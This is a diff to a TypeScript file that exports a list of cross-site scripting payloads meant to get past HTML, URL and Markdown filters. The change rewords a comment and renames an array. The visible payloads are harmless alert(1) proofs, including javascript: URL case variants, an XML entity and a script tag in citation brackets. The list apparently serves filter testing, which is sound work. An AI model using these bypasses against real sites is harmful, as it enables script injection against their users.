@@ -1,6 +1,6 @@
 /*
- * Forms by which markup, addresses and code have been slipped past filters: each tag, attribute, encoding and
- * parser quirk that is known to matter, in its shortest form. All of them call alert, confirm, prompt or print.
+ * HTML, URLs and Markdown that are known to bypass filters: each relevant tag, attribute, encoding and parser quirk in
+ * its shortest form. All of them call alert, confirm, prompt or print.
  */
 
 const call = "alert(1)";
@@ -105,7 +105,7 @@ const markup = [
   `<!DOCTYPE x [<!ENTITY y SYSTEM "javascript:${call}">]>`,
 ];
 
-const addresses = [
+const urls = [
   `javascript:${call}`,
   `JAVASCRIPT:${call}`,
   `jAvAsCrIpT:${call}`,
@@ -195,4 +195,4 @@ const markdown = [
   `【1†<script>${call}</script>】`,
 ];
 
-export const payloads: readonly string[] = [...markup, ...addresses, ...markdown];
+export const payloads: readonly string[] = [...markup, ...urls, ...markdown];
